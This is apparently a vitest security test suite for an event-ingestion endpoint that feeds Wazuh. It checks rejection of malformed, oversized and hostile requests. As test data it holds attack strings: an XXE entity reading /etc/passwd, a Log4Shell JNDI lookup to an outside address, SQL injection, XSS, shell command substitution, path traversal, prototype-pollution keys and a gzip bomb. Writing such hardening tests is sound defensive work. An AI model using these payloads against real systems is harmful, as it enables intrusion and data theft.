import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Stack } from '../../tools/local/stack.ts';
import {
  analysedIds,
  eventually,
  type Observed,
  post,
  startObservedStack,
} from '../support/running-stack.ts';

/** Stands in every body here, so that it can be looked for where it must not be. */
const CANARY = 'canary-7d1f';
const PROTOTYPE_NAMES = JSON.stringify(Reflect.ownKeys(Object.prototype).map(String).toSorted());

let stack: Stack & Observed;
beforeAll(async () => {
  stack = await startObservedStack();
});
afterAll(() => stack.close());

interface Answer {
  readonly status: number;
  readonly problem: boolean;
  readonly code: string | undefined;
  readonly outcomes: readonly string[];
}

async function send(
  body: string | Uint8Array<ArrayBuffer>,
  headers: Record<string, string> = {},
): Promise<Answer> {
  const response = await post(stack, body, headers);
  const json = (await response.json()) as { code?: string; outcomes?: { status: string; code?: string }[] };
  return {
    status: response.status,
    problem: response.headers.get('content-type') === 'application/problem+json',
    code: json.code,
    outcomes: (json.outcomes ?? []).map(({ status, code }) => code ?? status),
  };
}

/** Refused whole with a reason, or record by record. */
function isCivil({ status, problem, code, outcomes }: Answer): boolean {
  return status === 202
    ? outcomes.length > 0
    : status >= 400 && status < 500 && problem && code !== undefined;
}

const bytes = (...values: number[]) => new Uint8Array(values);
const utf16 = (text: string) => new Uint8Array(Buffer.from(`\ufeff${text}`, 'utf16le'));

test.each([
  ['a lone bracket', '['],
  ['100 000 open brackets', '['.repeat(100_000)],
  ['a trailing comma', `[{"action":"${CANARY}"},]`],
  ['a comment', `/* ${CANARY} */ {"action":"x"}`],
  ['single quotes', `{'action':'${CANARY}'}`],
  ['a raw tab in a string', `{"action":"${CANARY}\t"}`],
  ['a NUL in a string', `{"action":"${CANARY}\0"}`],
  ['NaN', `{"action":"x","n":NaN,"c":"${CANARY}"}`],
  ['a leading zero', '{"action":"x","n":01}'],
  ['a plus sign', '{"action":"x","n":+1}'],
  ['a bare decimal point', '{"action":"x","n":1.}'],
  ['a cut escape', String.raw`{"action":"\u00`],
  ['a wrong escape', String.raw`{"action":"\x41"}`],
  ['two documents', '{"action":"x"}{"action":"y"}'],
  ['a cut object', `{"action":"${CANARY}","details":{"a":`],
  ['a cut string', `{"action":"${CANARY}`],
  ['an invisible separator', '\u2028{"action":"x"}'],
  ['only white space', ' \t\r\n '],
  ['nothing', ''],
  ['a form', `action=${CANARY}&user=1`],
  ['XML with an entity', `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;${CANARY}</a>`],
])('%s is refused with a problem document', async (_, body) => {
  const answer = await send(body);
  expect(answer).toMatchObject({ status: 400, problem: true, code: expect.any(String) });
});

test.each<[string, Uint8Array<ArrayBuffer>]>([
  ['a byte that no UTF-8 has', bytes(0x7b, 0x22, 0xff, 0x22, 0x7d)],
  ['an overlong slash', bytes(0x22, 0xc0, 0xaf, 0x22)],
  ['an encoded surrogate', bytes(0x22, 0xed, 0xa0, 0x80, 0x22)],
  ['a character cut in two', bytes(0x22, 0xe2, 0x82)],
  ['UTF-16', utf16(`{"action":"${CANARY}"}`)],
])('%s is no UTF-8', async (_, body) => {
  expect(await send(body, { 'content-type': 'application/x-ndjson' })).toMatchObject({
    status: 400,
    code: 'invalid_utf8',
  });
});

test.each([
  ['a scalar', '7', ['invalid_event']],
  ['null', 'null', ['invalid_event']],
  ['a string', `"${CANARY}"`, ['invalid_event']],
  ['an empty object', '{}', ['invalid_event']],
  ['arrays in an array', `[[{"action":"${CANARY}"}],[]]`, ['invalid_event', 'invalid_event']],
  ['an action that is no text', '[{"action":{}},{"action":[]},{"action":0}]', Array(3).fill('invalid_event')],
  ['100 000 nested arrays', '['.repeat(100_000) + ']'.repeat(100_000), ['event_too_large']],
  ['20 000 nested arrays', '['.repeat(20_000) + ']'.repeat(20_000), ['too_deep']],
  ['10 000 nested objects', `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`, ['too_deep']],
  ['an event 70 deep', `{"action":"x","details":${'['.repeat(70)}${']'.repeat(70)}}`, ['too_deep']],
  [
    '2 001 keys',
    `{"action":"x",${Array.from({ length: 2_001 }, (_, i) => `"k${i}":1`).join()}}`,
    ['too_many_keys'],
  ],
  ['70 000 bytes', JSON.stringify({ action: 'x', details: CANARY.repeat(6_400) }), ['event_too_large']],
  ['the same key 3 000 times', `{"action":"x",${'"a":1,'.repeat(3_000)}"b":1}`, ['too_many_keys']],
])('%s is refused record by record', async (_, body, outcomes) => {
  expect(await send(body)).toMatchObject({ status: 202, outcomes });
});

const NAUGHTY = [
  '\u202e\u2066override\u2069',
  'Z\u0351\u036b\u0343\u036a\u0302\u0348\u0349',
  '\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67',
  '\ud800 lone \udfff',
  '\u0000\u0001\u001b[31m\u007f\u0085\u2028',
  "'; DROP TABLE events; --",
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '$' + '{jndi:ldap://198.51.100.1/a}',
  '{{7*7}} %n%n%s `id` $(id) | cat',
  '../../../../etc/passwd\u0000.png',
  '\u0130\u0131\ufb03 \u1e9e \ufdfa',
  'CON NUL undefined null NaN true -1 1E400',
  '\r\nX-Injected: yes\r\n\r\n',
];
const NUMBERS = [
  '1e400',
  '-1e400',
  '1e-400',
  '-0',
  '9007199254740993',
  '123456789012345678901234567890',
  '0.1e1',
];

test('naughty strings and numbers in any field are taken and arrive in a line that Wazuh reads', async () => {
  const texts = NAUGHTY.map((text, i) =>
    JSON.stringify({
      id: `naughty-${i}`,
      action: text,
      reason: text,
      user: { id: text, name: text, roles: [text] },
      source: { ip: text },
      url: text,
      level: text,
      timestamp: text,
      labels: { [text]: text },
      [text]: text,
      details: { [text]: { [text]: [text] } },
    }),
  );
  const numbers = NUMBERS.map(
    (number, i) =>
      `{"id":"number-${i}","action":"x","timestamp":${number},"level":${number},"status":${number},` +
      `"user":{"id":${number}},"source":{"port":${number}},"details":{"n":${number}}}`,
  );
  const answer = await send(`[${[...texts, ...numbers].join()}]`);
  expect(answer.outcomes).toEqual(Array(texts.length + numbers.length).fill('accepted'));
  const ids = [...NAUGHTY.map((_, i) => `naughty-${i}`), ...NUMBERS.map((_, i) => `number-${i}`)];
  await eventually('all of them arrive', () => ids.every((id) => analysedIds(stack).includes(id)));
  for (const line of stack.manager?.events() ?? []) {
    expect(line).not.toMatch(/[\n\r\0]/);
    expect(line.isWellFormed()).toBe(true);
  }
});

test('keys that reach for a prototype stay keys, and no prototype changes', async () => {
  const evil = `{"polluted":"${CANARY}","toString":"${CANARY}"}`;
  const bodies = [
    `{"id":"proto-0","action":"x","__proto__":${evil},"details":{"__proto__":${evil}}}`,
    `{"id":"proto-1","action":"x","constructor":{"prototype":${evil}},"details":{"constructor":{"prototype":${evil}}}}`,
    String.raw`{"id":"proto-2","action":"x","\u005f_proto__":` +
      `${evil},"labels":{"__proto__":"a","hasOwnProperty":"b"}}`,
    `{"id":"proto-3","action":"x","user":{"__proto__":${evil}},"event":{"__proto__":${evil}},"source":{"constructor":${evil}}}`,
    `{"id":"proto-4","action":"x","hasOwnProperty":1,"toJSON":1,"valueOf":2,"details":{"toJSON":{},"then":1}}`,
    `{"id":"proto-5","action":"x","action":"y","details":{"a":1},"details":{"a":2}}`,
  ];
  const { outcomes } = await send(`[${bodies.join()}]`);
  expect(outcomes).toEqual(bodies.map(() => 'accepted'));
  await send(`{"__proto__":${evil}}`);
  await send(`[{"__proto__":{"action":"x"}}]`);
  await eventually('they arrive', () => bodies.every((_, i) => analysedIds(stack).includes(`proto-${i}`)));
  expect(({} as { polluted?: string }).polluted).toBeUndefined();
  expect(JSON.stringify(Reflect.ownKeys(Object.prototype).map(String).toSorted())).toBe(PROTOTYPE_NAMES);
});

test('gzip that is a bomb, cut, nested or none is refused, and quickly', async () => {
  const gzip = (body: Uint8Array<ArrayBuffer>) => send(body, { 'content-encoding': 'gzip' });
  const bomb = new Uint8Array(gzipSync(Buffer.alloc(200 * 1_048_576)));
  const fair = new Uint8Array(gzipSync(`{"action":"${CANARY}"}`));
  const started = performance.now();
  expect(await gzip(bomb)).toMatchObject({ status: 413, code: 'payload_too_large' });
  expect(performance.now() - started).toBeLessThan(2_000);
  for (const body of [
    fair.slice(0, -9),
    fair.slice(0, 12),
    bytes(0x1f, 0x8b),
    new TextEncoder().encode('{}'),
  ])
    expect(await gzip(body)).toMatchObject({ status: 400, code: 'invalid_gzip' });
  expect(await gzip(new Uint8Array(gzipSync(fair)))).toMatchObject({ status: 400, problem: true });
  expect(isCivil(await gzip(new Uint8Array(Buffer.concat([fair, Buffer.from(CANARY)]))))).toBe(true);
});

test.each([
  ['another charset', { 'content-type': 'application/json; charset=utf-16' }, 415],
  ['another type', { 'content-type': 'image/png' }, 415],
  ['a type that is no type', { 'content-type': '__proto__' }, 415],
  ['another encoding', { 'content-encoding': 'br' }, 415],
  ['two encodings', { 'content-encoding': 'gzip, gzip' }, 415],
  ['no key', { authorization: '' }, 401],
  ['basic credentials', { authorization: 'Basic YTpi' }, 401],
  ['a long key', { authorization: `Bearer ${'slk_'.repeat(1_000)}` }, 401],
])('%s is told apart', async (_, headers, status) => {
  expect(await send(`{"action":"${CANARY}"}`, headers)).toMatchObject({ status, problem: true });
});

test('too many events are refused beyond the limit, far too many and too large bodies whole', async () => {
  const events = (count: number) => JSON.stringify(Array.from({ length: count }, () => ({ action: 'x' })));
  const { outcomes } = await send(events(501));
  expect([outcomes.length, outcomes[499], outcomes[500]]).toEqual([501, 'accepted', 'too_many_events']);
  expect(await send(events(5_001))).toMatchObject({ status: 413, problem: true });
  expect(await send(`["${CANARY.repeat(200_000)}"]`)).toMatchObject({ status: 413, problem: true });
  const ones = '0,'.repeat(500_000);
  expect(await send(`[${ones}0]`)).toMatchObject({ status: 413, problem: true });
});

test('nothing of any body is in a log line, and no invocation has failed', () => {
  const lines = stack.logLines.filter((line) => line.includes(CANARY) || line.includes('DROP TABLE'));
  expect(lines).toEqual([]);
  expect(stack.logLines.filter((line) => line.includes('"level":"ERROR"'))).toEqual([]);
  const parked = Object.keys(stack.journal.ledger()).filter((key) => key.includes('/parked'));
  expect(parked).toEqual([]);
});
